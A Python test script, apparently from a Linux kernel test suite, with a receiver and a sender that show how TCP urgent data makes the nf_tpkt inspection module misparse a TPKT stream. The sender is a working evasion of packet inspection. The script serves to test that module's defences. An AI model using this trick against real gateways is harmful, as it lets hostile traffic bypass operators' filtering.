#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Evasion techniques against nf_tpkt, with a real Linux receiver.

  adversary.py serve PORT OUT       accept one connection, read what the
                                    application gets until EOF or 3 s of
                                    silence, write its TPKT view to OUT
  adversary.py urgent ADDR PORT     send a stream whose reserved byte 0x11
                                    hides behind urgent data

The receiver is an ordinary socket without SO_OOBINLINE, as applications
use them: what it reads is what matters, not what went by on the wire.
Its report: the bytes read (hex), the TPKT headers found by walking their
lengths from offset 0, and how many of those have a reserved byte not 0.
"""
import json
import socket
import sys
import time


def tpkt_view(data):
    hdrs, p = [], 0
    while p + 4 <= len(data) and data[p] == 3:
        n = data[p + 2] << 8 | data[p + 3]
        hdrs.append({"off": p, "reserved": data[p + 1], "len": n})
        if n < 4:
            break
        p += n
    return {"read": data.hex(), "tpkts": hdrs,
            "reserved_nonzero": sum(1 for h in hdrs if h["reserved"])}


def serve(port, out):
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("0.0.0.0", port))
    ls.listen(1)
    print("LISTENING", flush=True)
    c, _ = ls.accept()
    c.settimeout(3)
    data = b""
    try:
        while True:
            b = c.recv(65536)
            if not b:
                break
            data += b
    except socket.timeout:
        pass
    with open(out, "w") as f:
        json.dump(tpkt_view(data), f)


def urgent(addr, port):
    """On the wire 03 00 | 11 00 ...: the gateway sees a clean TPKT header
    with length 0x1100, whose body it jumps.  The 00 is the urgent byte,
    which the receiving socket takes out of the stream: its application
    reads 03 11 00 08 02 f0 80 61, reserved 0x11."""
    s = socket.create_connection((addr, port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.send(bytes.fromhex("0300000702f080"))
    time.sleep(0.2)
    s.send(b"\x03")
    time.sleep(0.2)
    s.send(b"\x00", socket.MSG_OOB)
    time.sleep(0.2)
    s.send(bytes.fromhex("11000802f08061"))
    time.sleep(1)
    s.close()


if __name__ == "__main__":
    if sys.argv[1] == "serve":
        serve(int(sys.argv[2]), sys.argv[3])
    elif sys.argv[1] == "urgent":
        urgent(sys.argv[2], int(sys.argv[3]))
    else:
        sys.exit("usage: adversary.py serve PORT OUT | urgent ADDR PORT")
